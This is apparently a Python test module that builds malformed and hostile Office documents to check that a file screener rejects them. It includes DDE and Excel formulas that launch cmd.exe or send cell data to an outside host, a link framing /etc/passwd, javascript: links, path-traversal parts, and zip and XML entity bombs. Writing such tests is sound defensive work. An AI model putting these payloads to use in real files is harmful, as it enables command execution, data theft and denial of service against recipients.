"""Office files that are not taken in, each built for one reason."""

from __future__ import annotations

import io
import zipfile

import xlsxwriter

from evaluation.files.checks.base import MARKER
from tests.files import samples
from tests.files.samples import OFFICE, docx_parts, links, zipped

MAIN, TYPES, RELS = "word/document.xml", "[Content_Types].xml", "word/_rels/document.xml.rels"


def docx(body: str | None = None, **parts: bytes | str) -> bytes:
    """The good document with other parts; `__` stands for a slash."""
    made = docx_parts(body) if body is not None else docx_parts()
    return zipped(made | {name.replace("__", "/"): part for name, part in parts.items()})


def with_part(name: str, part: bytes | str = b"x") -> bytes:
    return zipped(docx_parts() | {name: part})


def linked(kind: str, target: str, mode: str = 'TargetMode="External"') -> bytes:
    """A relationship to somewhere."""
    inner = f'<Relationship Id="r9" Type="{OFFICE}/{kind}" Target="{target}" {mode}/>'
    return with_part(RELS, links(inner))


def types(old: str, new: str) -> bytes:
    return with_part(TYPES, str(docx_parts()[TYPES]).replace(old, new))


def sheet(formula: str) -> bytes:
    """A workbook with a formula."""
    target = io.BytesIO()
    with xlsxwriter.Workbook(target) as book:
        book.add_worksheet().write_formula(0, 0, formula)
    return target.getvalue()


def field(*pieces: str) -> str:
    return "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)


def twice() -> bytes:
    """Two parts of one name: two programs would read two documents."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for name, part in [*docx_parts().items(), ("Word/Document.xml", "<other/>")]:
            archive.writestr(name, part)
    return target.getvalue()


def lying() -> bytes:
    """A part is larger than the directory says."""
    good = bytearray(with_part("word/media/image2.png", b"0" * 5000))
    at = good.rindex(b"word/media/image2.png") - 46
    good[at + 24 : at + 28] = (10).to_bytes(4, "little")
    return bytes(good)


def overlapping() -> bytes:
    """Many entries of the directory share one packed part."""
    packed = zipped(docx_parts() | {"word/media/image2.png": b"0" * 5_000_000})
    directory = packed.index(b"PK\x01\x02")
    end = packed.rindex(b"PK\x05\x06")
    last = packed.rindex(b"PK\x01\x02")
    entry = packed[last:end]
    copies = b"".join(
        entry.replace(b"image2.png", f"imag{number:02d}.png".encode()) for number in range(10, 40)
    )
    count = packed[directory:end].count(b"PK\x01\x02") + 30
    tail = bytearray(packed[end:])
    tail[8:10] = tail[10:12] = count.to_bytes(2, "little")
    tail[12:16] = (end - directory + len(copies)).to_bytes(4, "little")
    return packed[:end] + copies + bytes(tail)


def flagged() -> bytes:
    """Every entry says that it needs a password."""
    good = bytearray(samples.docx())
    at = -1
    while (at := good.find(b"PK\x01\x02", at + 1)) >= 0:
        good[at + 8] |= 1
    return bytes(good)


def acting() -> dict[str, tuple[bytes, str]]:
    """What runs, embeds or reaches out."""
    return {
        "docx with an archive inside": (
            with_part("word/media/image2.png", samples.docx()),
            "reaching",
        ),
        "docx with macros": (with_part("word/vbaProject.bin"), "reaching"),
        "docx of a kind with macros": (
            types("document.main+xml", "document.macroEnabled.main+xml"),
            "reaching",
        ),
        "docx with an embedded object": (with_part("word/embeddings/oleObject1.bin"), "reaching"),
        "docx with a control": (with_part("word/activeX/activeX1.xml", "<a/>"), "reaching"),
        "docx with its own ribbon": (with_part("customUI/customUI.xml", "<a/>"), "reaching"),
        "docx with a program": (with_part("word/media/run.exe", b"MZ"), "reaching"),
        "docx with DDE in pieces": (docx(field("DD", "EAUTO c:\\\\cmd", ".exe")), "reaching"),
        "docx with DDE in a simple field": (docx('<w:fldSimple w:instr=" DDE cmd "/>'), "reaching"),
        "docx with a text fetched": (docx(field(' INCLUDETEXT "http://e.org"')), "reaching"),
        "xlsx that calls a program": (sheet("=cmd|'/c calc'!A0"), "reaching"),
        "xlsx that asks a server": (sheet('=WEBSERVICE("https://e.org/"&A1)'), "reaching"),
    }


def reaching() -> dict[str, tuple[bytes, str]]:
    """What names something outside."""
    return {
        "docx with a template elsewhere": (
            linked("attachedTemplate", "https://example.org/t.dotm"),
            "reaching",
        ),
        "docx with a picture elsewhere": (linked("image", "https://example.org/i.png"), "reaching"),
        "docx with a share of the network": (linked("image", "\\\\host\\share", ""), "reaching"),
        "docx with a frame of a local file": (
            linked("frame", "file:///etc/passwd", ""),
            "reaching",
        ),
        "docx with a script behind a link": (
            linked("hyperlink", "javascript:alert(1)"),
            "reaching",
        ),
    }


def too_much() -> dict[str, tuple[bytes, str]]:
    """What unpacks to more than it shows."""
    bomb = '<!DOCTYPE a [<!ENTITY b "bbbbbbbb"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'
    many = docx_parts() | {f"word/media/image{number}.png": b"x" for number in range(4000)}
    return {
        "docx that unpacks to a hundredfold": (
            with_part("word/media/a.png", bytes(120_000_000)),
            "bomb",
        ),
        "docx of four thousand parts": (zipped(many), "bomb"),
        "docx with overlapping parts": (overlapping(), "bomb"),
        "docx with entities": (with_part("word/styles.xml", bomb), "bomb"),
    }


def cases() -> dict[str, tuple[bytes, str]]:
    """Each case with the code of its reason."""
    good = samples.docx()
    return (
        acting()
        | reaching()
        | too_much()
        | {
            "docx with a way out of its folder": (with_part("../../evil.xml", "<a/>"), "damaged"),
            "docx with an absolute part": (with_part("/etc/evil.xml", "<a/>"), "damaged"),
            "docx with two main parts": (twice(), "damaged"),
            "docx without its list of parts": (zipped({MAIN: "<a/>"}), "damaged"),
            "docx that is declared a workbook": (
                types("wordprocessingml.document", "spreadsheetml.sheet"),
                "damaged",
            ),
            "docx with a lying directory": (lying(), "damaged"),
            "docx with broken XML": (with_part("word/styles.xml", "<a><b></a>"), "damaged"),
            "docx with a password": (flagged(), "encrypted"),
            "docx with a comment behind it": (zipped(docx_parts(), comment=b"PDF"), "two_kinds"),
            "docx with a program behind it": (good + b"MZ\x90\x00program", "two_kinds"),
            "docx behind a program": (b"MZ\x90\x00" + good, "unknown_kind"),
            "docx with the scanners' marker": (
                with_part("word/styles.xml", b"<a>" + MARKER + b"</a>"),
                "marker",
            ),
            "xlsx linked to another": (
                zipped(
                    {"xl/workbook.xml": "<a/>", TYPES: "<a/>", "xl/externalLinks/e.xml": "<a/>"}
                ),
                "damaged",
            ),
            "plain archive": (zipped({"a.txt": b"text"}), "unknown_kind"),
            "program as an archive": (
                zipped({"META-INF/MANIFEST.MF": b"Main-Class: A"}),
                "unknown_kind",
            ),
        }
    )
